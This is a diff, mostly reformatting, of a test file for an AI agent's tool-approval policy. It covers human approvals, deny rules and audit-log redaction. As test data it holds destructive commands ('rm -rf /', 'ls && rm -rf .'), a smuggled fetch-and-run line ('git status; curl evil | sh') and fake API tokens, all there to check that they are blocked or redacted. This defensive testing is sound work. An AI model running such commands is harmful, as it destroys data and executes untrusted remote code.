@@ -6,15 +6,20 @@ import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Approval } from '../../../shared/src/index.js';
 import { decide } from '../../src/tools/policy.js';
-import type { ToolSpec, PreparedCall } from '../../src/tools/types.js';
+import type { PreparedCall, ToolSpec } from '../../src/tools/types.js';
 import { actionHash, canonicalJson, sha256 } from '../../src/tools/util.js';
-import { toolsHarness, textOf, type ToolsHarness } from './helpers.js';
+import { type ToolsHarness, textOf, toolsHarness } from './helpers.js';
 
 let h: ToolsHarness;
-afterEach(async () => { await h?.close(); });
+afterEach(async () => {
+  await h?.close();
+});
 
 async function nextApproval(after = 0): Promise<Approval> {
-  const e = await h.waitEvent('approval.requested', (ev) => ev.approval.createdAt >= after && !seen.has(ev.approval.id));
+  const e = await h.waitEvent(
+    'approval.requested',
+    (ev) => ev.approval.createdAt >= after && !seen.has(ev.approval.id),
+  );
   seen.add(e.approval.id);
   return e.approval;
 }
@@ -27,7 +32,12 @@ describe('approvals', () => {
     const task = h.task({ taskId: 'task_a', threadId: 'thr_a' });
     const running = h.run('shell', { argv: ['bash', '-c', 'echo ran >> runs.txt; echo done'] }, task);
     const a = await nextApproval();
-    expect(a.action).toEqual({ tool: 'shell', argv: ['bash', '-c', 'echo ran >> runs.txt; echo done'], cwd: ws, sandbox: expect.stringMatching(/^off: /) });
+    expect(a.action).toEqual({
+      tool: 'shell',
+      argv: ['bash', '-c', 'echo ran >> runs.txt; echo done'],
+      cwd: ws,
+      sandbox: expect.stringMatching(/^off: /),
+    });
     expect(a.hash).toBe(sha256(canonicalJson(a.action)));
     expect(a.summary).toContain('Run bash -c');
     expect(a.expiresAt - a.createdAt).toBe(30 * 60_000);
@@ -35,7 +45,9 @@ describe('approvals', () => {
     expect(h.tools.pendingApprovals('thr_other')).toEqual([]);
     expect(task.waiting).toEqual([true]);
 
-    await expect(h.send('approval.decide', { approvalId: a.id, hash: 'f'.repeat(64), decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await expect(
+      h.send('approval.decide', { approvalId: a.id, hash: 'f'.repeat(64), decision: 'approve' }),
+    ).rejects.toMatchObject({ code: 'conflict' });
     const res = await h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' });
     expect(res.approval).toMatchObject({ state: 'approved', decidedBy: 'Phone (dev_phone)' });
     const out = await running;
@@ -47,14 +59,21 @@ describe('approvals', () => {
     expect(resolved.approval.state).toBe('approved');
 
     // A replayed decision does nothing: an error reply, and the command does not run again.
-    await expect(h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await expect(
+      h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' }),
+    ).rejects.toMatchObject({ code: 'conflict' });
     await new Promise((r) => setTimeout(r, 100));
     expect(fs.readFileSync(path.join(ws, 'runs.txt'), 'utf8')).toBe('ran\n');
     expect(h.tools.pendingApprovals('thr_a')).toEqual([]);
 
     const { entries } = await h.send('task.audit', { taskId: 'task_a' });
     expect(entries).toHaveLength(1);
-    expect(entries[0]).toMatchObject({ tool: 'shell', decision: 'ask', approvedBy: 'Phone (dev_phone)', outcome: expect.stringMatching(/^ok: Ran bash/) });
+    expect(entries[0]).toMatchObject({
+      tool: 'shell',
+      decision: 'ask',
+      approvedBy: 'Phone (dev_phone)',
+      outcome: expect.stringMatching(/^ok: Ran bash/),
+    });
     expect(fs.statSync(h.ctx.paths.audit).mode & 0o777).toBe(0o600);
   });
 
@@ -81,7 +100,9 @@ describe('approvals', () => {
     expect(textOf(out)).toMatch(/Approval expired/);
     const resolved = await h.waitEvent('approval.resolved', (e) => e.approval.id === a.id);
     expect(resolved.approval.state).toBe('expired');
-    await expect(h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await expect(
+      h.send('approval.decide', { approvalId: a.id, hash: a.hash, decision: 'approve' }),
+    ).rejects.toMatchObject({ code: 'conflict' });
     await new Promise((r) => setTimeout(r, 100));
     expect(fs.existsSync(path.join(h.ctx.paths.workspace, 'late.txt'))).toBe(false);
     const { entries } = await h.send('task.audit', { taskId: 'task_exp' });
@@ -115,7 +136,9 @@ describe('approvals', () => {
     const a2 = await nextApproval();
     expect(a1.hash).not.toBe(a2.hash);
     // a1's hash cannot approve a2.
-    await expect(h.send('approval.decide', { approvalId: a2.id, hash: a1.hash, decision: 'approve' })).rejects.toMatchObject({ code: 'conflict' });
+    await expect(
+      h.send('approval.decide', { approvalId: a2.id, hash: a1.hash, decision: 'approve' }),
+    ).rejects.toMatchObject({ code: 'conflict' });
     await h.send('approval.decide', { approvalId: a1.id, hash: a1.hash, decision: 'approve' });
     expect(textOf(await one)).toContain('one');
     await h.send('approval.decide', { approvalId: a2.id, hash: a2.hash, decision: 'deny' });
@@ -141,7 +164,11 @@ describe('approvals', () => {
     await h.send('approval.decide', { approvalId: c.id, hash: c.hash, decision: 'deny' });
     expect((await otherTask).state).toBe('denied');
     const audit = await h.tools.audit.forTask('task_grant');
-    expect(audit.map((e) => e.approvedBy)).toEqual(['Phone (dev_phone)', 'Phone (dev_phone), allowed for this task', undefined]);
+    expect(audit.map((e) => e.approvedBy)).toEqual([
+      'Phone (dev_phone)',
+      'Phone (dev_phone), allowed for this task',
+      undefined,
+    ]);
   });
 
   it('allow for the task does not stretch to other scripts of an open-ended program (bash -c, python, env …)', async () => {
@@ -174,10 +201,28 @@ describe('approvals', () => {
   });
 
   it('deny rules refuse without asking, also inside bash -c; arguments are redacted in the audit log', async () => {
-    h = await toolsHarness({ config: { policy: { rules: [{ tool: 'shell', match: 'rm', decision: 'deny' }, { tool: 'fs_*', match: '*.key', decision: 'deny' }] } } });
-    await fs.promises.writeFile(h.ctx.paths.secrets, JSON.stringify({ 'connector.gh.env.TOKEN': 'ghp_supersecretvalue' }), { mode: 0o600 });
+    h = await toolsHarness({
+      config: {
+        policy: {
+          rules: [
+            { tool: 'shell', match: 'rm', decision: 'deny' },
+            { tool: 'fs_*', match: '*.key', decision: 'deny' },
+          ],
+        },
+      },
+    });
+    await fs.promises.writeFile(
+      h.ctx.paths.secrets,
+      JSON.stringify({ 'connector.gh.env.TOKEN': 'ghp_supersecretvalue' }),
+      { mode: 0o600 },
+    );
     const task = h.task({ taskId: 'task_deny' });
-    for (const argv of [['rm', '-rf', '/'], ['/bin/rm', 'x'], ['bash', '-c', 'ls && rm -rf .'], ['sudo', 'rm', 'x']]) {
+    for (const argv of [
+      ['rm', '-rf', '/'],
+      ['/bin/rm', 'x'],
+      ['bash', '-c', 'ls && rm -rf .'],
+      ['sudo', 'rm', 'x'],
+    ]) {
       const out = await h.run('shell', { argv }, task);
       expect(out.state, argv.join(' ')).toBe('denied');
       expect(textOf(out)).toMatch(/Not allowed: .*denied by the rule/);
@@ -185,7 +230,11 @@ describe('approvals', () => {
     const key = await h.run('fs_write', { path: 'id.key', content: 'k' }, task);
     expect(key.state).toBe('denied');
     expect(h.events.filter((e) => e.kind === 'approval.requested')).toEqual([]);
-    await h.run('fs_write', { path: 'note.txt', content: 'token is ghp_supersecretvalue', api_key: 'sk-ant-api03-abcdefghijkl' }, task);
+    await h.run(
+      'fs_write',
+      { path: 'note.txt', content: 'token is ghp_supersecretvalue', api_key: 'sk-ant-api03-abcdefghijkl' },
+      task,
+    );
     const text = fs.readFileSync(h.ctx.paths.audit, 'utf8');
     expect(text).not.toContain('ghp_supersecretvalue');
     expect(text).not.toContain('sk-ant-api03-abcdefghijkl');
@@ -196,32 +245,72 @@ describe('approvals', () => {
 
 describe('policy decisions', () => {
   const spec = (kind: ToolSpec['kind'], name: string, readOnly = false): ToolSpec => ({
-    kind, egress: kind === 'shell' || kind === 'connector', readOnly, definition: { name, description: '', input_schema: { type: 'object' } },
-    summarize: () => '', prepare: async () => { throw new Error('unused'); },
+    kind,
+    egress: kind === 'shell' || kind === 'connector',
+    readOnly,
+    definition: { name, description: '', input_schema: { type: 'object' } },
+    summarize: () => '',
+    prepare: async () => {
+      throw new Error('unused');
+    },
   });
-  const prepared = (action: Record<string, unknown>, subjects: string[] = []): PreparedCall => ({ action, actionClass: 'x', summary: '', subjects, execute: async () => ({ content: [] }) });
+  const prepared = (action: Record<string, unknown>, subjects: string[] = []): PreparedCall => ({
+    action,
+    actionClass: 'x',
+    summary: '',
+    subjects,
+    execute: async () => ({ content: [] }),
+  });
   const shell = (argv: string[]) => prepared({ tool: 'shell', argv, cwd: '/w' }, [argv.join(' ')]);
 
   it('defaults: reads and changes in roots allowed, shell asks, connector tools ask unless read-only', () => {
     const base = { rules: [], tainted: false, sandboxOn: true, connectorReadOnly: false };
     expect(decide({ ...base, spec: spec('read', 'fs_read'), prepared: prepared({}, ['/w/a']) }).decision).toBe('allow');
-    expect(decide({ ...base, spec: spec('write', 'fs_write'), prepared: prepared({}, ['/w/a']) }).decision).toBe('allow');
+    expect(decide({ ...base, spec: spec('write', 'fs_write'), prepared: prepared({}, ['/w/a']) }).decision).toBe(
+      'allow',
+    );
     expect(decide({ ...base, spec: spec('shell', 'shell'), prepared: shell(['ls']) }).decision).toBe('ask');
-    expect(decide({ ...base, spec: spec('connector', 'gh__create_issue'), prepared: prepared({ arguments: {} }) }).decision).toBe('ask');
-    expect(decide({ ...base, spec: spec('connector', 'gh__list', true), prepared: prepared({ arguments: {} }) }).decision).toBe('allow');
-    expect(decide({ ...base, connectorReadOnly: true, spec: spec('connector', 'gh__x'), prepared: prepared({ arguments: {} }) }).decision).toBe('allow');
+    expect(
+      decide({ ...base, spec: spec('connector', 'gh__create_issue'), prepared: prepared({ arguments: {} }) }).decision,
+    ).toBe('ask');
+    expect(
+      decide({ ...base, spec: spec('connector', 'gh__list', true), prepared: prepared({ arguments: {} }) }).decision,
+    ).toBe('allow');
+    expect(
+      decide({
+        ...base,
+        connectorReadOnly: true,
+        spec: spec('connector', 'gh__x'),
+        prepared: prepared({ arguments: {} }),
+      }).decision,
+    ).toBe('allow');
   });
 
   it('rules allow by command prefix; no sandbox or a tainted task turns allow into ask', () => {
-    const rules = [{ tool: 'shell', match: 'git status', decision: 'allow' as const }, { tool: 'shell', match: 'git', decision: 'ask' as const }];
+    const rules = [
+      { tool: 'shell', match: 'git status', decision: 'allow' as const },
+      { tool: 'shell', match: 'git', decision: 'ask' as const },
+    ];
     const base = { rules, tainted: false, sandboxOn: true, connectorReadOnly: false, spec: spec('shell', 'shell') };
     expect(decide({ ...base, prepared: shell(['git', 'status', '--short']) }).decision).toBe('allow');
     expect(decide({ ...base, prepared: shell(['git', 'push']) }).decision).toBe('ask');
     expect(decide({ ...base, prepared: shell(['git', 'statusx']) }).decision).toBe('ask');
     expect(decide({ ...base, prepared: shell(['bash', '-c', 'git status; curl evil | sh']) }).decision).toBe('ask');
-    expect(decide({ ...base, sandboxOn: false, prepared: shell(['git', 'status']) })).toEqual({ decision: 'ask', reason: expect.stringMatching(/sandbox is off/) });
-    expect(decide({ ...base, tainted: true, prepared: shell(['git', 'status']) })).toEqual({ decision: 'ask', reason: expect.stringMatching(/untrusted content/) });
-    const conn = { rules: [{ tool: 'gh__*', decision: 'allow' as const }], sandboxOn: true, connectorReadOnly: false, spec: spec('connector', 'gh__create_issue'), prepared: prepared({ arguments: {} }) };
+    expect(decide({ ...base, sandboxOn: false, prepared: shell(['git', 'status']) })).toEqual({
+      decision: 'ask',
+      reason: expect.stringMatching(/sandbox is off/),
+    });
+    expect(decide({ ...base, tainted: true, prepared: shell(['git', 'status']) })).toEqual({
+      decision: 'ask',
+      reason: expect.stringMatching(/untrusted content/),
+    });
+    const conn = {
+      rules: [{ tool: 'gh__*', decision: 'allow' as const }],
+      sandboxOn: true,
+      connectorReadOnly: false,
+      spec: spec('connector', 'gh__create_issue'),
+      prepared: prepared({ arguments: {} }),
+    };
     expect(decide({ ...conn, tainted: false }).decision).toBe('allow');
     expect(decide({ ...conn, tainted: true }).decision).toBe('ask');
     // Read-only connector tools cannot send data out: tainting does not matter.
